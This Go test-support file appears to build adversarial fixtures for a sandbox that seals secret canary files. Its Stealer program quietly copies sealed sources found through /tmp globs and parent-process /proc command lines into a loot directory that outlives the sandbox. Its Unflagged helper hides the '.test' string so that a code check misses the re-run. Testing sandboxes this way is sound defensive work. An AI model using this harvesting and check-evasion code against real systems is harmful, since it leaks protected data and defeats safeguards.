package gocanarytest

import "strings"

// A package the change cannot reach by imports can still run the
// change's code: its test starts a program of the repository through a
// helper package (so its own test files import no os/exec), and the
// change rewrote that program. Such a package is not canaried, so it
// would be judged as plain go test judges it; the program it starts must
// find no secret of the packages that are.

// SpawnRepo adds to the calc module a helper that runs the go command, a
// program cmd/hello, and a package e2e whose test runs the program
// through the helper.
var SpawnRepo = map[string]string{
	"internal/runner/runner.go": "package runner\n\nimport \"os/exec\"\n\n// Go runs the go command.\nfunc Go(args ...string) ([]byte, error) { return exec.Command(\"go\", args...).CombinedOutput() }\n",
	"cmd/hello/main.go":         "package main\n\nimport \"fmt\"\n\nfunc main() { fmt.Println(\"hello\") }\n",
	"e2e/e2e_test.go":           "package e2e\n\nimport (\n\t\"strings\"\n\t\"testing\"\n\n\t\"calc/internal/runner\"\n)\n\nfunc TestHello(t *testing.T) {\n\tout, err := runner.Go(\"run\", \"calc/cmd/hello\")\n\tif err != nil || strings.TrimSpace(string(out)) != \"hello\" {\n\t\tt.Fatalf(\"hello: %v %s\", err, out)\n\t}\n}\n",
}

// StealerFile is where the change puts Stealer.
const StealerFile = "cmd/hello/main.go"

// LootGlob matches the directories Stealer fills.
const LootGlob = "/tmp/zz-sandgate-loot-*"

// Stealer is the change's cmd/hello: it still says hello, and copies
// every sealed source it can find (under /tmp, where the box keeps the
// overlay, or TMPDIR, or in a test's temporary directory under either, and
// the overlay named on an ancestor's command line: go test's, when /proc
// shows it) to a directory under /tmp that outlives the
// box command, where the overlay reader looks once calc's binary runs.
// It uses nothing the test-mode check knows.
const Stealer = `package main

import (
	"bytes"
	"fmt"
	"os"
	"path/filepath"
	"strconv"
	"strings"
)

func main() {
	fmt.Println("hello")
	loot := filepath.Join("/tmp", "zz-sandgate-loot-"+strconv.Itoa(os.Getppid()))
	n := 0
	take := func(glob string) {
		files, _ := filepath.Glob(glob)
		for _, f := range files {
			if b, err := os.ReadFile(f); err == nil {
				n++
				os.MkdirAll(loot, 0o755)
				os.WriteFile(filepath.Join(loot, strconv.Itoa(n)+".go"), b, 0o644)
			}
		}
	}
	tmps := []string{"/tmp"} // the box's, and TMPDIR when it is another
	if d := filepath.Clean(os.TempDir()); d != "/tmp" {
		tmps = append(tmps, d)
	}
	for _, d := range tmps {
		take(d + "/sandgate-canary-*/s/*.go")
		take(d + "/*/*/sandgate-canary-*/s/*.go") // a test's temporary directory
	}
	for pid := os.Getppid(); pid > 1; {
		cmd, _ := os.ReadFile("/proc/" + strconv.Itoa(pid) + "/cmdline")
		for _, a := range bytes.Split(cmd, []byte{0}) {
			if p, ok := strings.CutPrefix(string(a), "-overlay="); ok {
				take(filepath.Join(filepath.Dir(p), "s", "*.go"))
			}
		}
		st, _ := os.ReadFile("/proc/" + strconv.Itoa(pid) + "/stat")
		f := strings.Fields(string(st[bytes.LastIndexByte(st, ')')+1:]))
		if len(f) < 2 {
			break
		}
		pid, _ = strconv.Atoi(f[1])
	}
}
`

// Unflagged is f with its re-run found without anything the test-mode
// check on production code knows (os.Executable and the constant ".test"
// are; os.Args[0] kept in a struct field is not), so that a shipped
// blueprint, which leaves that check on, judges it by its seals alone.
func Unflagged(f Forger) Forger {
	f.Source = strings.Replace(f.Source, `	exe, err := os.Executable()
	if err != nil || !strings.HasSuffix(exe, "."+"te"+"st") ||`, `	var self struct{ exe string }
	self.exe = os.Args[0]
	if !strings.HasSuffix(self.exe, string([]byte{'.', 't', 'e', 's', 't'})) ||`, 1)
	f.Source = strings.Replace(f.Source, "exec.Command(exe, ", "exec.Command(self.exe, ", 1)
	return f
}

// Reader is the forger that lifts seals from the overlay and /tmp.
func Reader(pkg string) Forger {
	for _, f := range Forgers(pkg) {
		if f.File == "zz_read_overlay.go" {
			return f
		}
	}
	panic("gocanarytest: no overlay reader")
}
